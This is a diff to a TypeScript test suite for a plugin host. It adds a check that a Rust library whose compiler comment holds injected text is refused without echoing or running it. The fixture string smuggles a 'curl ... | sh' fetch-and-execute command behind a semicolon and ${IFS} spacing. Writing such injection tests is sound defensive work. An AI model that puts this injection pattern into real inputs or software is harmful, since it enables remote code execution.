@@ -4,7 +4,7 @@ import { describe, expect, it } from 'vitest';
 import { createHost } from '../../main/core/host';
 import { FileLogger } from '../../main/core/log/logger';
 import { homeLayout } from '../../main/core/paths';
-import { installSample, pretendBuiltByOtherRustc, release } from '../helpers/fixtures';
+import { installSample, pretendBuiltByOtherRustc, pretendCommentSays, release } from '../helpers/fixtures';
 import { scratchHome, tracked } from '../helpers/per-test';
 
 const HELLO = 'dev.example.my-plugin';
@@ -135,7 +135,8 @@ describe('a plugin that misbehaves', () => {
       const { host } = await startHost([{ sample: 'misbehave' }]);
       await expect(host.plugins.invoke(MISBEHAVE, 'env', { name: 'HF_TEST_API_TOKEN' })).resolves.toEqual({ value: null });
       await expect(host.plugins.invoke(MISBEHAVE, 'env', { name: 'HF_TEST_SETTING' })).resolves.toEqual({ value: null });
-      await expect(host.plugins.invoke(MISBEHAVE, 'env', { name: 'PATH' })).resolves.toEqual({ value: '/usr/bin:/bin' });
+      // Programs are found as on a user's machine (their names are shims; design §8.1).
+    await expect(host.plugins.invoke(MISBEHAVE, 'env', { name: 'PATH' })).resolves.toEqual({ value: '/usr/local/bin:/usr/bin:/bin' });
       await expect(host.plugins.invoke(MISBEHAVE, 'env', { name: 'HOME' })).resolves.toEqual({ value: expect.stringMatching(/plugins\/dev\.haloforge\.test\.misbehave\/data$/) as string });
     } finally {
       delete process.env.HF_TEST_API_TOKEN;
@@ -166,6 +167,14 @@ describe('a library that cannot be a plugin is refused with its own message', ()
     pretendBuiltByOtherRustc(libraryPath, '1.97.0');
     const error = await refused({ sample: 'misbehave', library: libraryPath }, MISBEHAVE);
     expect(error).toMatch(/was built with rustc 1\.97\.0 .*and the host bridge with rustc 1\.95\.0 .*no installed Rust toolchain is rustc 1\.97\.0 .*install it with `rustup toolchain install 1\.97\.0` \(or `haloforge toolchain install 1\.97\.0`\), then restart the plugin$/);
+  });
+
+  it('a library whose .comment names a compiler as no rustc writes it: never shown, never made into a command', async () => {
+    const { libraryPath } = installSample(scratchHome(), { sample: 'misbehave' });
+    pretendCommentSays(libraryPath, '1.99.0;curl${IFS}-s${IFS}x|sh (a b)');
+    const error = await refused({ sample: 'misbehave', library: libraryPath }, MISBEHAVE);
+    expect(error).toMatch(/was built by an unrecognised compiler/);
+    expect(error).not.toMatch(/curl|rustup|1\.99/);
   });
 
   it('a file that is not a library', async () => {
